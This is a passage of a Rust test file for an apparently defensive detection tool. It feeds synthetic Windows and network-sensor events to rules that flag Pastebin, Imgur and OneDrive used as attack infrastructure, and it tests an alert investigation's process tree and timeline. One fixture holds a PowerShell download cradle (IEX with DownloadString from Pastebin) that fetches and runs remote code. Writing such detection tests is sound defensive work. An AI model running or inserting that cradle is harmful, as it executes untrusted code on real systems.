            r#"{{"Event":{{"System":{{"Provider":{{"Name":"{provider}"}},"EventID":{id},"TimeCreated":{{"SystemTime":"2026-03-10T09:00:00Z"}},"EventRecordID":7,"Channel":"c","Computer":"h","Execution":{{"ProcessID":44}}}},"EventData":{data}}}}}"#
        )
    };
    let block = |text: &str| {
        event("Microsoft-Windows-PowerShell", 4104, &serde_json::json!({"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": "s"}).to_string())
    };
    let job = |title: &str, url: &str| event("Microsoft-Windows-Bits-Client", 59, &serde_json::json!({"name": title, "Id": "{1}", "url": url, "bytesTotal": "1"}).to_string());
    let cradle = "# a comment\nIEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/abcd')";
    assert_eq!(hardened(&block(cradle)), [r#""High" "powershell.exe on h uses Pastebin""#]);
    assert_eq!(hardened(&job("539cd7d7.png", "https://i.imgur.com/539cd7d7.png")), [r#""Medium" "svchost.exe on h uses Imgur""#]);
    let sensor = r#"{"ts":1773133200.5,"uid":"C1","id.orig_h":"10.0.1.5","id.orig_p":50000,"id.resp_h":"13.107.42.12","id.resp_p":443,"server_name":"d.docs.live.net"}"#;
    assert_eq!(hardened(sensor), [r#""High" "a program on 10.0.1.5 uses OneDrive WebDAV/consumer storage""#]);
    // Near misses: a module that names its home, an updater's job, a browser's host at the sensor.
    assert!(hardened(&block("@{ ModuleVersion = '2.1'; ProjectUri = 'https://github.com/a/b' }\nInvoke-WebRequest $Uri")).is_empty());
    assert!(hardened(&job("Chrome Component Updater", "https://storage.googleapis.com/update/x.crx3")).is_empty());
    assert!(hardened(&sensor.replace("d.docs.live.net", "github.com")).is_empty());
}

#[test]
fn an_alert_is_investigated_with_its_tree_and_its_timeline() {
    let folder = tempfile::tempdir().expect("a folder");
    let page = folder.path().join("case.html");
    let output = vidette(&["investigate", "samples", "--alert", "cmd.exe on srv-app-01", "--json", "--html", &page.display().to_string()]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let case: serde_json::Value = serde_json::from_str(&text(&output.stdout)).expect("JSON");
    let tree: Vec<(&str, bool)> = case["tree"].as_array().expect("a tree").iter().map(|node| (node["fileName"].as_str().expect("a name"), node["isSubject"] == true)).collect();
    assert_eq!(tree, [("taskeng.exe", false), ("cmd.exe", true), ("net.exe", false), ("powershell.exe", false)]);
    let own: Vec<&str> =
        case["timeline"].as_array().expect("a timeline").iter().filter(|moment| moment["ofSubject"] == true).map(|moment| moment["detail"].as_str().expect("text")).collect();
    assert!(own.iter().any(|detail| detail.contains("net use Z:")), "{own:?}");
    let failed: Vec<&serde_json::Value> = case["sections"].as_array().expect("sections").iter().filter(|section| section.get("error").is_some()).collect();
    assert!(failed.is_empty(), "{failed:?}");
    let page = std::fs::read_to_string(page).expect("a page");
    assert!(page.contains("<svg") && page.contains("d.docs.live.net") && !page.contains("<script"));
    // A rule that tells no process id: the event at its time does.
    let output = vidette(&["investigate", "samples", "--alert", "connected to pastebin.com", "--json"]);
    let case: serde_json::Value = serde_json::from_str(&text(&output.stdout)).expect("JSON");
    assert_eq!(case["subject"]["processId"], 7788);
    let output = vidette(&["investigate", "samples", "--alert", "99"]);
    assert_eq!(output.status.code(), Some(3));
    assert!(text(&output.stderr).contains("no alert `99` among 8"), "{}", text(&output.stderr));
}
